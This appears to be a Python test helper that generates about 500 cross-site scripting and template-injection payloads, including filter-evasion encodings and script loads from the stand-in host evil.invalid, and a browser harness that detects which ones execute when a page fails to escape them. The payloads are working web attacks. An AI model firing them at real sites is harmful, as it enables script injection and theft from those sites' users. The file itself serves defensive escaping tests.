"""Five hundred texts that would run as a script, or fetch something foreign, wherever a page does not escape them.

What runs calls `alert`, what fetches asks `evil.invalid`: both are seen by `Detector`.
"""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Sequence

    from playwright.sync_api import Browser

NUMBER: Final = 500

# What stands before: nothing, or the end of whatever a value may stand in.
_ENDS: Final = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</select>", "</noscript>",
    "</code></pre>", "</svg>", "</option>", "</a>", "</template>", '\\">', "</td></tr></table>",
)  # fmt: skip
_ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<object data=javascript:parent.alert(1)></object>",
    "<body onload=alert(1)>",
    "<style>@import'//evil.invalid/a.css'</style>",
    "<link rel=stylesheet href=//evil.invalid/a.css>",
    "<script src=//evil.invalid/a.js></script>",
    "<img src=//evil.invalid/a.png>",
    "<embed src=//evil.invalid/a.svg>",
    "<style>body{background:url(//evil.invalid/b)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<a autofocus onfocus=alert(1) href=javascript:alert(1)>x</a>",
)
_ATTRIBUTES: Final = (
    '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", " autofocus onfocus=alert(1) ",
    '" onmouseover=alert(1) style="position:fixed;inset:0" x="', '" onanimationstart=alert(1) x="',
    '"\tonfocus=alert(1) autofocus\tx="', "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "//evil.invalid/", "https://evil.invalid/", "vbscript:alert(1)",
)  # fmt: skip
_SCRIPTS: Final = (
    "';alert(1);//", '";alert(1);//', "`;alert(1);//", "${alert(1)}", "{{alert(1)}}", "{{7*7}}", "{%print(1)%}",
    "#{alert(1)}", "<%= alert(1) %>", "\\u003cscript>alert(1)\\u003c/script>", "\\x3cimg src=x onerror=alert(1)>",
    '{"__proto__":{"onload":"alert(1)"}}', "</script><script>alert(1)</script>", "<!--<script>alert(1)</script>",
)  # fmt: skip
_WRITINGS: Final = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >",
    "<img/src=x/onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<svg/onload=alert(1)//",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<x onclick=alert(1) autofocus tabindex=1>",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """All of them, each once, without control characters and blanks at their ends."""
    made = [
        *_SCRIPTS,
        *_WRITINGS,
        *_ATTRIBUTES,
        *(end + element for end, element in product(_ENDS, _ELEMENTS)),
    ]
    made += [
        f"{end}{element.upper().replace('ALERT', 'alert')}" for end, element in product(_ENDS, _ELEMENTS)
    ]
    clean = (" ".join(each.split()) for each in made)
    return tuple(dict.fromkeys(clean))[:NUMBER]


class Detector:
    """Lets documents loose in a browser, without any policy, and tells which of them did something."""

    def __init__(self, browser: Browser) -> None:
        """Open a page of its own."""
        self._context = browser.new_context(bypass_csp=True)
        self._page = self._context.new_page()
        self._ran: list[str] = []
        self._context.expose_binding("ran", lambda source, *_: self._ran.append(source["frame"].name))
        self._context.add_init_script("window.alert = window.confirm = window.prompt = () => window.ran()")
        self._page.route(_PLACE, lambda route: route.fulfill(body="", content_type="text/html"))
        self._page.on("request", lambda asked: self._note(asked.url))

    def run(self, documents: Sequence[str]) -> list[str]:
        """Show each document in a frame of its own; returns what ran and what was asked for."""
        self._ran = []
        self._page.goto(_PLACE)
        self._page.evaluate(_SHOW, list(documents))
        return self._ran

    def close(self) -> None:
        """Close the page."""
        self._context.close()

    def _note(self, url: str) -> None:
        if not url.startswith(("about:", "data:", "http://127.0.0.1/")):
            self._ran.append(url)


# An address of this machine, so that relative ones lead somewhere; nothing is asked there.
_PLACE: Final = "http://127.0.0.1/frames"
# Resolves when every frame has loaded and a moment for focus, errors and animations has passed.
_SHOW: Final = """(documents) => Promise.all(documents.map((text, number) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.name = `frame-${number}`;
  frame.srcdoc = text;
  frame.addEventListener("load", done, { once: true });
  document.body.append(frame);
}))).then(() => new Promise((done) => setTimeout(done, 150)))"""
